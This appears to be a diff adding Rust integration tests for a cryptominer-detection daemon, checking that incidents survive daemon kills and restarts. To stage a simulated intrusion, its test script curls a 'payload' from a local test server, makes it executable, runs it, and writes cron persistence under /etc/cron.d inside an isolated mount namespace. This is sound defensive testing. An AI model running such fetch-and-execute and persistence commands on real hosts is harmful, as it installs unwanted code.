@@ -1,0 +1,265 @@
+//! The daemon is killed and started again: the incidents go on, and nothing is opened twice.
+
+use std::{
+    collections::BTreeMap,
+    fs,
+    process::{Child, Command, Stdio},
+    thread,
+    time::{Duration, Instant},
+};
+
+use minerwatch_tests::{
+    Scratch,
+    agent::{Agent, at},
+    command, executable,
+    namespace::{Pair, Server},
+    notes::note,
+};
+use rustix::process::Signal;
+use serde_json::Value;
+
+use crate::{SOON, configuration, daemon, machine, machine_for_long};
+
+/// A dropper whose program is started again and again, between two hosts.
+struct Intrusion {
+    pair: Pair,
+    _servers: [Server; 2],
+    scratch: Scratch,
+    dropped: String,
+    script: String,
+}
+
+impl Intrusion {
+    fn prepare(subnet: u8) -> Self {
+        let scratch = Scratch::new();
+        let pair = Pair::new(subnet);
+        let share = scratch.join("share");
+        fs::create_dir(&share).expect("a directory can be made");
+        fs::copy(executable("simulator"), format!("{share}/payload")).expect("the payload can be copied");
+        let address = &pair.server.address;
+        let web = pair.server.serve(8000, "python3", &["-m", "http.server", "8000", "--directory", &share]);
+        let pool = pair.server.serve(9000, "python3", &[
+            "-c",
+            "import socket\ns=socket.create_server(('0.0.0.0',9000))\nkept=[]\nwhile True: kept.append(s.accept())",
+        ]);
+        let dropped = format!("/tmp/.{}", minerwatch_tests::unique("dropped"));
+        let script = scratch.join("intrusion.sh");
+        // The script mounts an empty crontab directory in its own mount namespace, so that the host stays clean.
+        fs::write(
+            &script,
+            format!(
+                "mount -t tmpfs none /etc/cron.d\n\
+                 curl -s -o {dropped} http://{address}:8000/payload\n\
+                 chmod +x {dropped}\n\
+                 while [ -e {share} ]; do {dropped} infect {address}:9000 /etc/cron.d/sync 2; done\n"
+            ),
+        )
+        .expect("a script can be written");
+        Self { pair, _servers: [web, pool], scratch, dropped, script }
+    }
+
+    fn start(&self) -> Child {
+        self.pair
+            .victim
+            .command("unshare", &["--mount", "sh", &self.script])
+            .stdout(Stdio::null())
+            .spawn()
+            .expect("it starts")
+    }
+
+    /// Ends the script, which waits for the dropped program.
+    fn end(&self, mut child: Child) {
+        let share = self.scratch.join("share");
+        fs::rename(&share, self.scratch.join("gone")).expect("a directory can be renamed");
+        child.wait().expect("our child");
+        fs::rename(self.scratch.join("gone"), &share).expect("a directory can be renamed");
+    }
+
+    /// Returns whether a process of a suspect is alive, for each suspect of an incident in the state file.
+    fn stored(&self, id: &Value) -> Vec<bool> {
+        let text = fs::read_to_string(self.scratch.join("state/incidents.json")).expect("the state file");
+        let file: Value = serde_json::from_str(&text).expect("JSON");
+        let number = |value: &Value| value.as_u64().expect("a number");
+        let name = |incident: &Value| {
+            let origin = at(incident, "id.origin");
+            let parts = [&origin["pid"], &origin["start_ticks"], at(incident, "id.opened")];
+            parts.map(|part| format!("{:x}", number(part))).join("-")
+        };
+        let incidents = file["state"]["incidents"].as_array().expect("incidents");
+        let incident = incidents.iter().find(|incident| *id == name(incident)).expect("it is stored");
+        let suspects = incident["suspects"].as_object().expect("suspects");
+        let alive = |suspect: &Value| {
+            suspect["runs"].as_array().is_some_and(|runs| runs.iter().any(|run| run["alive"] == true))
+        };
+        suspects.values().map(alive).collect()
+    }
+}
+
+impl Drop for Intrusion {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.dropped);
+    }
+}
+
+fn is_alert(object: &Value) -> bool {
+    at(object, "event.kind") == "alert"
+}
+
+/// Starts the daemon and keeps only its alerts.
+fn start(path: &str) -> Agent {
+    let mut command = Command::new(executable("minerwatch"));
+    command.args(["run", "--config", path]);
+    Agent::start_keeping(command, |line| line.contains("\"kind\":\"alert\""))
+}
+
+/// Kills the daemon and returns its alerts.
+fn kill(mut agent: Agent) -> Vec<Value> {
+    agent.signal(Signal::KILL);
+    agent.wait(Duration::from_secs(20)).expect("SIGKILL ends it");
+    // The collecting thread needs a moment to read the rest of the pipe.
+    thread::sleep(Duration::from_millis(50));
+    agent.objects().into_iter().filter(is_alert).collect()
+}
+
+fn actions(alerts: &[Value]) -> Vec<String> {
+    let word = |alert: &Value, path| at(alert, path).as_str().unwrap_or_default().to_owned();
+    alerts
+        .iter()
+        .map(|alert| {
+            let (action, reason) = (word(alert, "event.action"), word(alert, "minerwatch.reason"));
+            let id = word(alert, "minerwatch.incident.id");
+            format!("{id} {action} {reason}: {}", word(alert, "message"))
+        })
+        .collect()
+}
+
+fn about<'a>(alerts: &'a [Value], id: &Value) -> Vec<&'a Value> {
+    alerts.iter().filter(|alert| at(alert, "minerwatch.incident.id") == id).collect()
+}
+
+fn of_intrusion(alerts: &[Value], dropped: &str) -> Value {
+    let found = alerts.iter().find(|alert| {
+        alert["minerwatch"]["suspects"]
+            .as_array()
+            .is_some_and(|all| all.iter().any(|suspect| suspect.to_string().contains(dropped)))
+    });
+    at(
+        found.unwrap_or_else(|| panic!("no incident of {dropped}: {:?}", actions(alerts))),
+        "minerwatch.incident.id",
+    )
+    .clone()
+}
+
+/// Kills the daemon `kills` times at random moments after it is ready, and checks all alerts together.
+fn survives(test_subnet: u8, kills: u32, mut seed: u64) {
+    let intrusion = Intrusion::prepare(test_subnet);
+    let path = configuration(&intrusion.scratch, "");
+    let mut random = move |below: u64| {
+        // xorshift64
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        seed % below
+    };
+    let begin = Instant::now();
+    let mut alerts = Vec::new();
+    let mut agent = start(&path);
+    let child = intrusion.start();
+    agent.wait_for("opening", SOON, is_alert);
+    for _ in 0..kills {
+        thread::sleep(Duration::from_millis(random(900)));
+        alerts.extend(kill(agent));
+        agent = start(&path);
+    }
+    intrusion.end(child);
+    agent.find(Duration::from_millis(1_500), |_| false);
+    alerts.extend(agent.stop().into_iter().filter(is_alert));
+    note(&format!("{kills} kills in {:?}: {:#?}", begin.elapsed(), actions(&alerts)));
+
+    let id = of_intrusion(&alerts, &intrusion.dropped);
+    let own = about(&alerts, &id);
+    // Usually there is one opening. If the kill came between the state and the line, the incident goes on instead.
+    let opened = own.iter().filter(|alert| at(alert, "event.action") == "incident-opened").count();
+    let first = own.first().map(|alert| at(alert, "event.action"));
+    assert!(
+        opened == 1 && first.is_some_and(|first| first == "incident-opened") || opened == 0,
+        "{:#?}",
+        actions(&alerts)
+    );
+    let mut opened: BTreeMap<String, u32> = BTreeMap::new();
+    for alert in alerts.iter().filter(|alert| at(alert, "event.action") == "incident-opened") {
+        *opened.entry(at(alert, "minerwatch.incident.id").to_string()).or_default() += 1;
+    }
+    assert!(opened.values().all(|count| *count == 1), "{opened:?}");
+    let goes_on = |alert: &&&Value| at(alert, "event.action") == "incident-updated";
+    assert!(own.iter().filter(goes_on).count() > 0, "it goes on: {:#?}", actions(&alerts));
+    let alive = intrusion.stored(&id);
+    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");
+}
+
+#[test]
+fn an_incident_survives_kills() {
+    let Some(_machine) = machine("an_incident_survives_kills") else { return };
+    survives(61, 3, 0x9e37_79b9_7f4a_7c15);
+}
+
+#[test]
+fn an_incident_survives_many_kills() {
+    let Some(_machine) = machine_for_long("an_incident_survives_many_kills") else { return };
+    survives(62, 20, 0x2545_f491_4f6c_dd1d);
+}
+
+#[test]
+fn an_intrusion_that_ended_meanwhile_is_not_alive() {
+    let Some(_machine) = machine("an_intrusion_that_ended_meanwhile_is_not_alive") else { return };
+    let intrusion = Intrusion::prepare(63);
+    let path = configuration(&intrusion.scratch, "");
+    let agent = start(&path);
+    let child = intrusion.start();
+    agent.wait_for("persistence", SOON, |object| {
+        is_alert(object) && object["minerwatch"]["chain"].to_string().contains("/etc/cron.d/sync")
+    });
+    let alerts = kill(agent);
+    let id = of_intrusion(&alerts, &intrusion.dropped);
+    intrusion.end(child);
+
+    // The intrusion ended while no daemon ran.
+    let agent = start(&path);
+    assert!(agent.says("incidents of the earlier run: ", SOON), "{:?}", agent.messages());
+    assert!(daemon(&intrusion.scratch)["engine"]["incidents_restored"].as_u64() >= Some(1));
+    let later = agent.stop();
+    assert!(about(&later, &id).is_empty(), "nothing is left that goes on: {:?}", actions(&later));
+    let alive = intrusion.stored(&id);
+    assert!(!alive.is_empty() && alive.iter().all(|alive| !alive), "{alive:?}");
+
+    // It starts again while the daemon is down.
+    let child = intrusion.start();
+    let until = Instant::now() + SOON;
+    while command::try_run("pgrep", &["-f", &format!("^{} infect", intrusion.dropped)]).stdout.is_empty() {
+        assert!(Instant::now() < until, "the dropped program runs");
+        thread::sleep(Duration::from_millis(20));
+    }
+    let agent = start(&path);
+    let back = agent.wait_for("its return", SOON, |object| *at(object, "minerwatch.incident.id") == id);
+    assert_eq!(at(&back, "event.action"), "incident-updated", "{back:#}");
+    assert_eq!(at(&back, "minerwatch.reason"), "returned", "{back:#}");
+    intrusion.end(child);
+    agent.stop();
+
+    // Another boot: the incidents have ended.
+    let file = intrusion.scratch.join("state/incidents.json");
+    let stored = fs::read_to_string(&file).expect("it was stored");
+    let boot_id = fs::read_to_string("/proc/sys/kernel/random/boot_id").expect("a boot id");
+    fs::write(&file, stored.replace(boot_id.trim(), "00000000-0000-4000-8000-000000000000"))
+        .expect("it can be replaced");
+    let agent = start(&path);
+    let closed = agent.wait_for("the end", SOON, |object| *at(object, "minerwatch.incident.id") == id);
+    assert_eq!(at(&closed, "event.action"), "incident-closed", "{closed:#}");
+    assert_eq!(at(&closed, "minerwatch.reason"), "ended", "{closed:#}");
+    kill(agent);
+
+    fs::write(&file, "{").expect("it can be damaged");
+    let agent = start(&path);
+    assert!(agent.says("the earlier incidents are not known", SOON), "{:?}", agent.messages());
+    agent.stop();
+}
